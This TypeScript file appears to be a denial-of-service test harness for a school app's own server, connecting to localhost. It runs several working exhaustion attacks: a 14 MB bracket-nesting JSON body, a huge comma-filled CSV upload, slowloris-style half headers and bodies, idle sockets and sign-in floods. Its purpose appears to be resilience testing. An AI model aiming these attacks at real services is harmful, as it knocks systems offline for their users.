import { request } from 'node:http';
import { connect } from 'node:net';
import { setTimeout as wait } from 'node:timers/promises';
import {
  createFieldPart,
  createFilePart,
  MULTIPART_CONTENT_TYPE,
  createFormBytes,
} from '../../testing/server/http/body.ts';
import type { AttackPlan } from './plan.ts';

const BRACKETS = 14 * 1024 * 1024;
const COMMAS = 9_000_000;

let made: Buffer | null = null;

/**
 * Returns the request body of the attack. All connections share one buffer, which saves memory in the attacking
 * process.
 */
function bodyOf(make: () => Buffer): Buffer {
  made ??= make();
  return made;
}

const brackets = (): Buffer => Buffer.alloc(BRACKETS, '[');
const commas = (): Buffer => {
  const file = createFilePart('files', 'a.csv', Buffer.alloc(COMMAS, ','));
  return createFormBytes([createFieldPart('input', '{}'), file]);
};

/** Sends a POST request with a body and waits until the server responds or closes the connection. */
function post(
  { url }: AttackPlan,
  path: string,
  cookie: string,
  body: Buffer,
  type = 'application/json',
): Promise<void> {
  const headers = {
    'content-type': type,
    'content-length': body.length,
    origin: url,
    ...(cookie === '' ? {} : { cookie }),
  };
  return new Promise((resolve) => {
    const sending = request(`${url}${path}`, { agent: false, method: 'POST', headers }, (answer) => {
      answer.resume().once('close', resolve);
    });
    sending.once('error', () => resolve()).end(body);
  });
}

/**
 * Opens a TCP connection, sends the text `said` and keeps the connection open until the server closes it or until the
 * time `until`.
 */
async function hold({ url, until }: AttackPlan, said: string): Promise<void> {
  const socket = connect(Number(new URL(url).port), '127.0.0.1');
  const ended = new Promise<void>((resolve) => socket.once('close', () => resolve()));
  socket.on('error', () => undefined);
  if (said !== '') socket.write(said);
  await Promise.race([ended, wait(Math.max(0, until - Date.now()))]);
  socket.destroy();
}

const START = 'POST /api/sign-in HTTP/1.1\r\nhost: x\r\n';

/**
 * Does the attack of the plan once, on one connection. Some attacks need the session of a teacher, the others need no
 * session.
 */
export function attackOnce(plan: AttackPlan, connection: number, round: number): Promise<void> {
  switch (plan.attack) {
    case 'brackets from anybody':
      return post(plan, '/api/rosters/check', '', bodyOf(brackets));
    case 'brackets from a teacher':
      return post(plan, '/api/rosters/check', plan.cookie, bodyOf(brackets));
    case 'a question file of commas':
      return post(plan, '/api/question-sets/check', plan.cookie, bodyOf(commas), MULTIPART_CONTENT_TYPE);
    case 'half a header':
      return hold(plan, `${START}content-`);
    case 'half a body':
      return hold(
        plan,
        `${START}origin: ${plan.url}\r\ncontent-type: application/json\r\ncontent-length: 900\r\n\r\n{`,
      );
    case 'silent sockets':
      return hold(plan, '');
    case 'sign-ins of strangers': {
      const email = `stranger-${process.pid}-${connection}-${round}@example.test`;
      return post(plan, '/api/sign-in', '', Buffer.from(JSON.stringify({ email, password: 'a guess of theirs' })));
    }
  }
}
